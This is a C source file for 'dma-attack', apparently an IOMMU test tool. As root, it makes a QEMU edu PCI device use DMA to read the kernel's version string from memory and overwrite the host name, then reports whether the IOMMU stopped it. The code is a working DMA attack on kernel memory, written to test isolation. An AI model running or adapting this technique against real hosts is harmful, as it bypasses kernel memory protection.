// dma-attack: lets the teaching device read the kernel's memory and change the host name, from user space.
//
// No driver is asked: the registers are reached by /sys/bus/pci/devices/.../resource0. What stands between the device
// and memory is the IOMMU alone, and whether it does is what this shows.

#include "edu-device.h"
#include "kernel-log.h"
#include <linux/utsname.h>

const char tool[] = "dma-attack";

#define READ_BYTES 64
#define PREFIX "Linux version "
#define DEFAULT_NAME "owned"
/* What the device holds before: it must not be what is looked for */
#define FILLER_SEED 99
#define MAX_FAULTS 8

static const char help[] =
	"usage: dma-attack [--name NAME] [--json]\n"
	"\n"
	"Lets the edu device, which no driver has to hold, read the kernel's memory (its\n"
	"version) and write to it (the host name becomes NAME, or `owned`).\n"
	"`hostname viommu` puts the name back.\n"
	"\n"
	"Status: 0 when it got through, 1 when the IOMMU stopped it, 2 when it could not\n"
	"be tried.\n";

static const char *where;
static volatile __u8 *page;
static __u32 page_address;
static int memory = -1;

static char faults[MAX_FAULTS][96];
static int fault_count;

static const char *device_file(const char *name)
{
	static char path[128];

	join(path, sizeof(path), DEVICES, where, name);
	return path;
}

static void open_device(void)
{
	__u16 command;
	int fd = open(device_file("/config"), O_RDWR);

	if (fd < 0)
		die("%s cannot be opened: run this as root", device_file("/config"));
	/* as `setpci COMMAND` does: the device answers, and masters the bus */
	read_at(fd, &command, 2, PCI_COMMAND_PLACE);
	command |= PCI_MEMORY_AND_MASTER;
	write_at(fd, &command, 2, PCI_COMMAND_PLACE);
	close(fd);

	fd = open(device_file("/resource0"), O_RDWR);
	registers = fd < 0 ? MAP_FAILED : mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (registers == MAP_FAILED)
		die("%s cannot be mapped (error %d)", device_file("/resource0"), errno);
	if ((get(EDU_ID) & 0xffff) != 0xed)
		die("%s does not answer as an edu device: its register 0 says 0x%x", where, get(EDU_ID));
}

/* A page of this program that the device writes to, and where it lies in memory */
static void open_page(void)
{
	__u64 entry = 0;
	int fd = open("/proc/self/pagemap", O_RDONLY);

	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		die("there is no memory for a page");
	page[0] = 1;
	if (fd < 0 || read_at(fd, &entry, 8, (__u64)((unsigned long)page / PAGE) * 8) != 8 || !(entry & ~0ull >> 9))
		die("/proc/self/pagemap does not tell where a page lies: run this as root, on a kernel with"
		    " CONFIG_PROC_PAGE_MONITOR");
	close(fd);
	page_address = (entry & ~0ull >> 9) * PAGE;
	if (page_address > EDU_REACH - PAGE)
		die("this program's page lies at 0x%x, and edu reaches 256 MiB: start the PC with less memory", page_address);
}

/* Looks for bytes in a part of memory: the place of the first that suits, or 0. The step is a page, with an overlap. */
static __u32 search_range(__u32 from, __u32 to, const char *bytes, unsigned int length)
{
	static char piece[2 * PAGE];
	unsigned int kept = 0;

	for (__u32 at = from & ~(PAGE - 1); at < to; at += PAGE) {
		if (read_at(memory, piece + kept, PAGE, at) != PAGE)
			return 0;
		for (unsigned int i = 0; i + length <= kept + PAGE; i++)
			if (piece[i] == *bytes && !memcmp(piece + i, bytes, length))
				return at - kept + i;
		memmove(piece, piece + kept + PAGE - length, length);
		kept = length;
	}
	return 0;
}

/* The same in all parts that /proc/iomem calls by a name. Who attacks a known kernel has the place from its System.map;
 * here it is looked up, so that every kernel will do. */
static __u32 search(const char *part, const char *bytes, unsigned int length)
{
	static char map[4096];
	int fd = open("/proc/iomem", O_RDONLY);
	ssize_t count = 0, got;
	char *text = map;

	while (fd >= 0 && (got = read(fd, map + count, sizeof(map) - 1 - count)) > 0)
		count += got;
	map[count] = 0;
	close(fd);
	/* "  01000000-0149ffff : Kernel code" */
	while (text && *text) {
		char *end = strchr(text, '\n');
		char *dash = strchr(text, '-');

		if (end)
			*end = 0;
		if (dash && has(text, part)) {
			while (*text == ' ')
				text++;
			__u32 found = search_range(strtoul(text, NULL, 16), strtoul(dash + 1, NULL, 16), bytes, length);

			if (found)
				return found;
		}
		text = end ? end + 1 : NULL;
	}
	return 0;
}

static void transfer(__u32 address, unsigned int bytes, int to_ram)
{
	if (!edu_transfer(address, bytes, to_ram))
		die("the device does not end its transfer: echo 1 > %s", device_file("/reset"));
}

/* Lets the device read memory: what arrived in this program's page, or null when that is not what lies there. */
static const char *attack_by_reading(__u32 address)
{
	static char text[READ_BYTES + 1];

	fill(page, PAGE, FILLER_SEED);
	transfer(page_address, PAGE, 0);
	transfer(address, READ_BYTES, 0);
	for (int i = 0; i < PAGE; i++)
		page[i] = 0;
	transfer(page_address, READ_BYTES, 1);
	for (int i = 0; i < READ_BYTES; i++)
		text[i] = page[i];
	/* the release is enough: who built it follows in brackets */
	if (strchr(text, '(') && strchr(text, '(') > text)
		strchr(text, '(')[-1] = 0;
	return strncmp(text, PREFIX, strlen(PREFIX)) ? NULL : text;
}

/* Lets the device write the host name; the kernel is asked what it is then. */
static void attack_by_writing(__u32 address, const char *name)
{
	for (unsigned int i = 0; i <= strlen(name); i++)
		page[i] = name[i];
	transfer(page_address, strlen(name) + 1, 0);
	transfer(address, strlen(name) + 1, 1);
}

static void collect_faults(void)
{
	const char *fault;

	while ((fault = next_fault()))
		if (fault_count < MAX_FAULTS)
			strlcpy(faults[fault_count++], fault, sizeof(faults[0]));
}

/* Why it ended so, from what /sys tells of the device */
static const char *reason(const char *type, int is_through)
{
	static char names[MAX_NAMES][NAME_SIZE];

	if (list_folder("/sys/class/iommu", names) == 0)
		return "this PC has no IOMMU: the device is in reach of all memory";
	if (!*type)
		return is_through ? "no driver has ever taken the device: it is in no domain, and boot bypass is on" :
				    "no driver has ever taken the device: it is in no domain, and boot bypass is off";
	if (!strcmp(type, "identity"))
		return "the device's domain is of type identity: it bypasses the IOMMU";
	return "the device has a domain since a driver took it, and reaches what is mapped there";
}

static void tell(int is_json, const char *text, __u32 text_at, const char *before, const char *after, __u32 name_at)
{
	int is_changed = strcmp(before, after) != 0;
	int is_through = text || is_changed;
	char type[NAME_SIZE];

	read_line(device_file("/iommu_group/type"), type, sizeof(type));
	if (is_json) {
		print("{\"device\":%q,\"domain\":", where);
		print(*type ? "%q" : "null", type);
		print(",\"outcome\":%q,\"read\":{\"address\":\"0x%x\",\"text\":", is_through ? "through" : "stopped",
		      text_at);
		print(text ? "%q" : "null", text);
		print("},\"write\":{\"address\":\"0x%x\",\"before\":%q,\"after\":%q},\"faults\":[", name_at, before, after);
		for (int i = 0; i < fault_count; i++)
			print(i ? ",%q" : "%q", faults[i]);
		print("],\"reason\":%q}\n", reason(type, is_through));
		return;
	}
	if (is_through)
		print("dma-attack: got through: ");
	else
		print("dma-attack: stopped: ");
	if (text)
		print("read \"%s\" at 0x%x", text, text_at);
	else
		print("read nothing at 0x%x", text_at);
	if (is_changed)
		print(", changed the host name from %s to %s\n", before, after);
	else
		print(", the host name is still %s\n", before);
	print("  why: %s\n", reason(type, is_through));
	for (int i = 0; i < fault_count; i++)
		print("  the IOMMU: %s\n", faults[i]);
}

static void set_host_name(const char *name)
{
	/* a call among the arguments would spoil the others' registers */
	size_t length = strlen(name);

	my_syscall2(__NR_sethostname, name, length);
}

/* Where the kernel keeps the host name: "Linux", padded, then the name. For a moment it has one that is nowhere else, as
 * old copies of it may lie about. */
static __u32 find_host_name(struct new_utsname uts)
{
	__u32 found;

	strcpy(uts.nodename, "dma-attack-looks-for-this");
	set_host_name(uts.nodename);
	found = search("Kernel data", (const char *)&uts, sizeof(uts.sysname) + strlen(uts.nodename));
	return found ? found + sizeof(uts.sysname) : 0;
}

int main(int argc, char **argv)
{
	const char *name = DEFAULT_NAME;
	int is_json = 0;
	struct new_utsname before, after;
	__u32 text_at, name_at;
	const char *text;

	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--help") || !strcmp(argv[i], "-h")) {
			print("%s", help);
			return 0;
		}
		if (!strcmp(argv[i], "--json"))
			is_json = 1;
		else if (!strcmp(argv[i], "--name") && i + 1 < argc)
			name = argv[++i];
		else
			die("there is no option %s: dma-attack --help", argv[i]);
	}
	if (!*name || strlen(name) >= sizeof(before.nodename))
		die("a host name has 1 to 64 characters");
	where = find_edu();
	memory = open("/dev/mem", O_RDONLY);
	if (memory < 0)
		die("/dev/mem cannot be opened: run this as root");
	my_syscall1(__NR_uname, &before);
	if (!strcmp(before.nodename, name))
		die("the host name is %s already: give another by --name, or put it back by `hostname viommu`", name);
	open_device();
	open_page();
	text_at = search("Kernel rodata", PREFIX, strlen(PREFIX));
	if (!text_at)
		die("this kernel's version is not in its memory where it was looked for");
	name_at = find_host_name(before);
	set_host_name(before.nodename);
	if (!name_at)
		die("this kernel's host name is not in its memory where it was looked for");

	mark_log();
	text = attack_by_reading(text_at);
	attack_by_writing(name_at, name);
	my_syscall1(__NR_uname, &after);
	collect_faults();
	tell(is_json, text, text_at, before.nodename, after.nodename, name_at);
	return text || strcmp(before.nodename, after.nodename) ? 0 : 1;
}
